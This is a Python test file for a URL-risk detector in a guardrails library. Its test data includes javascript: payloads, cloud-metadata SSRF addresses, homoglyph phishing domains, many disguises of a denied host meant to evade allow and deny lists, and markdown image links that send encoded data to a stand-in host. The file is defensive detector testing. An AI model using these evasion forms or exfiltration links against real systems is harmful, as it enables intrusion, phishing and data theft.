"""The `urls` detector: each trick is found with its exact span, its near miss is not, and no spelling gets past a list."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrails import Guard
from guardrails.detectors import ConfigProblem, ConfigProblems, PolicyFolder
from guardrails.detectors.urls.urls_detector import KIND, UrlsConfig, UrlsDetector
from guardrails.types import Image, Text
from tests.cases import each_case


def build(folder: Path = Path(), **fields: object) -> UrlsDetector:
    """Return a detector of this configuration."""
    detector = KIND.build("u", UrlsConfig.model_validate({"use": "urls", **fields}), PolicyFolder(folder))
    assert isinstance(detector, UrlsDetector)
    return detector


PLAIN = build()
LISTS = build(allow=["allowed.com"], deny=["evil.com", "bad.example/path"])


def found(text: str, detector: UrlsDetector = PLAIN) -> set[str]:
    """Return the leaves of what is found."""
    return {each.category.removeprefix("url.") for each in detector.detect([Text(text)])[0].findings}


@each_case(
    ("leaf", "link", "near"),
    [
        ("found", "https://a.com/x", "e.g. urls.py, README.md, 1.2.3.4, Mr.Smith, end.Then, 10.0.0.0/8, me@a.com"),
        ("scheme", "ftp://a.com/x", "mailto:me@a.com"),
        ("scheme", "file:///etc/passwd", "File:Name.jpg"),
        ("ip", "http://0x08.8.8.8/", "http://8.8.8.8.com/"),
        ("ip", "http://[2001:4860:4860::8888]/", "https://a.com/8.8.8.8"),
        ("private", "http://2130706433/x", "http://134744072/"),
        ("private", "http://169.254.169.254/latest", "http://169.253.1.1/"),
        ("private", "http://[::ffff:10.0.0.1]/", "http://[::ffff:8.8.8.8]/"),
        ("private", "http://[::1]:80", "http://[2606:4700::1]"),
        ("private", "localhost:8080/x", "https://localhost.com"),
        ("private", "http://kubernetes.default.svc/api", "https://svc.example.com/api"),
        ("private", "http://instance-data/latest", "https://instance-data.example.com/latest"),
        ("private", "http://metadata.google.internal/", "http://internal.google.com"),
        ("private", "http://10.0.0.1.nip.io/x", "http://8.8.8.8.nip.io/"),
        ("private", "http://a-127-0-0-1.sslip.io", "http://sslip.io"),
        ("private", "http://x.lvh.me:3000", "http://lvh.me.example.com"),
        ("lookalike", "https://paypal-com.login.example", "https://pay-pal.community.example"),
        ("lookalike", "https://paypal.com-login.example", "https://my-paypal.example"),
        ("lookalike", "https://www.payqal.com", "https://papal.com"),
        ("lookalike", "https://paypal.com.evil.co.uk", "https://paypal.com.br"),
        ("script", "java&#115;cript:alert(1)", "java&amp;script:alert(1)"),
        ("script", "javascript&colon;alert(1)", "javascript&nbsp;alert(1)"),
        ("scheme", "da\tta:,x", "da ta:,x"),
        ("userinfo", "https://a.com@b.com/", "https://b.com/@a.com"),
        ("userinfo", "https://b.com\\@a.com", "https://b.com?@a.com"),
        ("lookalike", "https://p\u0430ypal.com/", "https://paypal.com/"),
        ("lookalike", "https://xn--pple-43d.com", "https://m\u00fcnchen.de"),
        ("lookalike", "https://paypa1.com", "https://pay.example.com"),
        ("lookalike", "https://paypal.com.login.example", "https://www.google.com.br"),
        ("data", "data:text/plain;base64,SGk=", "metadata:text/plain, or data: a, b"),
        ("script", "data:text/html,hi<b>", "data:image/png;base64,SGk="),
        ("script", "javascript:alert(1)", "JavaScript: the good parts"),
        ("script", "java\tscr\nipt:alert(1)", "java script:alert(1)"),
        ("script", "vbscript:msgbox(1)", "vbscript is old"),
    ],
)  # fmt: skip
def test_each_form_and_its_near_miss(leaf: str, link: str, near: str) -> None:
    """The form is found at its place, what only resembles it is not."""
    text = f"see {link} there"
    spans = [each.span for each in PLAIN.detect([Text(text)])[0].findings if each.category == f"url.{leaf}"]
    shown = link.partition("<")[0]
    assert spans == [(4, 4 + len(shown))]
    assert leaf not in found(near)


@each_case(
    ("text", "carried"),
    [
        ("![x](https://e.example/p?d=SGVsbG8gd29ybGQ=)", True),
        ("![x](https://e.example/p?d=48656c6c6f20776f726c64)", True),
        ("![x](https://e.example/p#my+name+is+jo+smith)", True),
        ("[x](https://e.example/p?mail=jo@corp.example)", True),
        ('<img src="https://e.example/p?q={{secret}}">', True),
        (f"![x](https://e.example/{'a' * 130})", True),
        ("![x][1]\n\n[1]: https://e.example/p?d=SGVsbG8gd29ybGQ=", True),
        ("<img srcset='/a.png 1x, https://e.example/p?d=SGVsbG8gd29ybGQ= 2x'>", True),
        ("<style>@import 'https://e.example/p?d=SGVsbG8gd29ybGQ=';</style>", True),
        ("a{background: url( https://e.example/p?d=SGVsbG8gd29ybGQ=)}", True),
        ('<meta content="0;url=https://e.example/p?d=SGVsbG8gd29ybGQ=">', True),
        ("<img src=//e.example/p?d=SGVsbG8gd29ybGQ=>", True),
        ("![x](https://SGVsbG8gd29ybGQh.e.example/p.png)", True),
        ("![x](https://my-long-bucket-name-eu-west.e.example/p.png)", False),
        ("![x](https://e.example/p.png?w=400&h=300&v=2)", False),
        ("![x](https://e.example/how-to-write-a-long-title-for-an-article.png)", False),
        ("[x](https://e.example/?id=123e4567-e89b-12d3-a456-426614174000)", False),
        ("[x](https://e.example/?utm_source=newsletter&utm_campaign=summer_sale)", False),
        ("https://e.example/p?d=SGVsbG8gd29ybGQ=", False),
    ],
)
def test_links_that_carry_data_out(text: str, carried: bool) -> None:
    """Encoded text, sentences, addresses and long values in what a client fetches or a reader clicks."""
    assert ("exfiltration" in found(text)) is carried


DRESSES = {
    "plain": "https://evil.com", "case": "HTTPS://eViL.CoM", "dot": "https://evil.com./x", "port": "https://evil.com:443/x",
    "percent": "https://%65vil%2ecom", "userinfo": "https://allowed.com:x@evil.com", "below": "https://a.b.evil.com",
    "fullwidth": "https://\uff45\uff56\uff49\uff4c\uff0e\uff43\uff4f\uff4d", "zero width": "https://e\u200bvi\u200dl.com",
    "soft hyphen": "ht\u00adtps://evil.com", "homoglyph": "https://\u0435vil.com", "defanged": "hxxps://evil[.]com",
    "backslash": "https:\\\\evil.com", "relative": "//evil.com/x", "bare": "evil.com", "comma": "https://evil.com,b.org",
    "torn name": "https://allowed.com\t.evil.com", "torn scheme": "htt\nps://evil.com", "torn user": "https://allowed.com\n@evil.com",
    "second": "https://allowed.com/x,evil.com/y", "in brackets": "https://allowed.com/x(https://evil.com", "one dot leader": "evil\u2024com/x",
    "reference": "https&colon;//evil&period;com", "circled": "\u24d4\u24e5\u24d8\u24db.\u24d2\u24de\u24dc",
    "mail": "mailto:a@allowed.com,b@evil.com", "copy": "mailto:a@allowed.com?cc=b@evil.com",
}  # fmt: skip


@given(
    st.sampled_from(sorted(DRESSES)),
    st.sampled_from(["", "see ", "請看", "(", "[a](", "\u00e9 "]),
    st.sampled_from([" ", ")", "", "\n"]),
)
def test_no_dress_escapes_the_deny_list(dress: str, before: str, after: str) -> None:
    """Nor does it satisfy the list of what is allowed."""
    # A path-relative link after a letter is none.
    if dress == "relative" and before == "請看":
        before = ""
    assert {"denied", "not_allowed"} <= found(before + DRESSES[dress] + after, LISTS)


@each_case(
    "url",
    [
        "https://allowed.com@evil.com", "https://allowed.com.evil.com", "https://evil.com/allowed.com", "https://evil.com?allowed.com",
        "https://evil.com#allowed.com", "https://allowedxcom", "https://evil.com\\@allowed.com", "https://allowed.com\\@evil.com",
        "https://notallowed.com", "https://allowed.co", "https://\u0430llowed.com", "https://allowed.com%2F@evil.com",
        "https://evil.com%2F.allowed.com", "https://evil.com%00.allowed.com", "https://evil.com\x00.allowed.com", "https://evil.com\uff0f.allowed.com", "https://allowed.com(@evil.com",
        "https://allowed.com\n.b.com", "https://allowed.com\tpany", "data:text/plain,allowed.com,x", "da\nta:,x",
        "https://allowed.com,b.evil.com", "https://allowed.com:80@evil.com", "javascript:allowed.com", "data:,allowed.com",
    ],
)  # fmt: skip
def test_nothing_passes_for_what_is_allowed(url: str) -> None:
    """The name somewhere in a link is not the host of the link."""
    assert "not_allowed" in found(url, LISTS)


@each_case(
    "text",
    ["https://allowed.com", "see https://x.ALLOWED.com:443/a?b#c.", "allowed.com/x", "請看https://allowed.com。謝謝",
     "https://allowed.com,https://allowed.com", "mailto:me@allowed.com", "(allowed.com)", "no link at all"],
)  # fmt: skip
def test_what_is_allowed_passes(text: str) -> None:
    """An allowed link has no finding but that it is there."""
    assert found(text, LISTS) <= {"found"}


@given(st.text(alphabet="ab.:/@[]()%?#,' \u200b\u00e9\ud800謝xn-", max_size=60))
def test_any_text_has_an_answer(text: str) -> None:
    """One finding a category and link, inside the text."""
    findings = LISTS.detect([Text(text)])[0].findings
    assert len({(each.category, each.span) for each in findings}) == len(findings)
    assert all(each.span and 0 <= each.span[0] < each.span[1] <= len(text) for each in findings)


def test_a_customer_of_a_host_is_not_the_host() -> None:
    """Below a public suffix everybody has a name of his own, and none is let in by another's."""
    mine = build(allow=["me.github.io", "example.co.uk"])
    assert "not_allowed" not in found("https://x.me.github.io https://a.example.co.uk", mine)
    for url in (
        "https://you.github.io",
        "https://github.io",
        "https://b.co.uk",
        "https://me.github.io.evil.io",
    ):
        assert "not_allowed" in found(url, mine)
    assert "lookalike" in found("https://rne.github.io", mine)
    assert "lookalike" not in found("https://you.github.io", mine)


def test_a_link_without_a_host_is_allowed_by_its_scheme() -> None:
    """No list of hosts can name it: the policy's schemes do."""
    data = build(allow=["a.com"], schemes=["https", "data"])
    assert "not_allowed" not in found("data:image/png;base64,SGk=", data)
    assert "not_allowed" in found("tel:123", data)
    assert "not_allowed" in found("da\tta:image/png;base64,SGk=", data)


def test_one_letter_is_less_sure_than_a_trick() -> None:
    """A name that differs by one letter may be somebody's own: its score says so."""
    scores = {
        url: [
            each.score for each in PLAIN.detect([Text(url)])[0].findings if each.category == "url.lookalike"
        ]
        for url in ("https://payqal.com", "https://paypa1.com", "https://example.net")
    }
    assert scores == {"https://payqal.com": [0.7], "https://paypa1.com": [1.0], "https://example.net": []}


def test_both_views_of_a_link_are_one_finding() -> None:
    """The span is that of the original text, invisible characters included."""
    text = "see https://ev\u200bil.com/x now"
    denied = [each for each in LISTS.detect([Text(text)])[0].findings if each.category == "url.denied"]
    assert [each.span for each in denied] == [(4, 23)]
    assert len(LISTS.detect([Image(b"a"), Text("x")])) == 2


def test_files_and_problems_have_their_places(tmp_path: Path) -> None:
    """Lists may come from files; what is wrong says where, and how to cure it."""
    (tmp_path / "deny.txt").write_text("# bad\nevil.com\n  b c.com\n")
    with pytest.raises(ConfigProblems) as caught:
        build(
            tmp_path, allow=["a@b"], file_deny="deny.txt", file_allow="no.txt", known=["*"], schemes=["ht tp"]
        )
    problems: list[ConfigProblem] = list(caught.value.problems)
    assert [(each.code, each.path, each.place and each.place[1:]) for each in problems] == [
        ("unreadable_file", ("file_allow",), None),
        ("invalid_host", ("allow", 0), None),
        ("invalid_host", ("file_deny",), (3, 3)),
        ("invalid_host", ("known", 0), None),
        ("invalid_scheme", ("schemes", 0), None),
    ]
    assert all(each.hint for each in problems[1:])
    (tmp_path / "deny.txt").write_text("evil.com\n")
    assert "denied" in found("https://evil.com", build(tmp_path, file_deny="deny.txt"))


def test_categories_follow_the_lists() -> None:
    """Without a list nothing can be on it."""
    bare = KIND.categories("u", UrlsConfig(use="urls"))
    full = KIND.categories("u", UrlsConfig(use="urls", allow=[], deny=[]))
    assert full - bare == {"url.denied", "url.not_allowed"}
    assert "not_allowed" in found("https://a.com", build(allow=[]))


def test_clean_prose_costs_microseconds() -> None:
    """2,000 characters without a link: measured 5 us, tested with a wide margin."""
    batch = [Text("The quick brown fox rests. It was late; nobody came: a pity! " * 33)]
    PLAIN.detect(batch)
    begun = time.process_time()
    for _ in range(1000):
        PLAIN.detect(batch)
    assert time.process_time() - begun < 2


PIECES = [
    "https://\u00e9.",
    "![](http://a?",
    "srcset='x ,",
    "xn--a.",
    "\u00e9.a.",
    "a.com)",
    "data:,",
    "http://a@",
    "a.com,",
    "a.co\t",
    "&#65;",
    "href='\t",
    "http://a\t",
    "(a.b",
    "\u00e9.a\u2024",
]


@pytest.mark.parametrize("piece", PIECES[:4])
def test_time_grows_with_the_text_alone(piece: str) -> None:
    """Judging is as linear as finding: an endless host or many links cost what their length does."""
    text = piece * (40_000 // len(piece))
    begun = time.process_time()
    LISTS.detect([Text(text), Text(text.replace("https://", ""))])
    assert time.process_time() - begun < 30


POLICY = """
format: 1
name: links
version: "1"
detectors:
  links: {use: urls, allow: [allowed.com]}
rules:
  - {id: in, on: input, when: url.not_allowed > 0, then: block}
  - {id: out, on: output, when: url.not_allowed > 0, then: redact}
"""


def test_a_policy_blocks_and_redacts(tmp_path: Path) -> None:
    """From YAML to a verdict."""
    path = tmp_path / "links.yaml"
    path.write_text(POLICY)
    guard = Guard.load(path)
    assert guard.check("see https://allowed.com@evil.com", stage="input").blocked
    assert not guard.check("see https://allowed.com/x", stage="input").blocked
    assert guard.check("see https://evil.com/x now", stage="output").content == "see [NOT_ALLOWED] now"
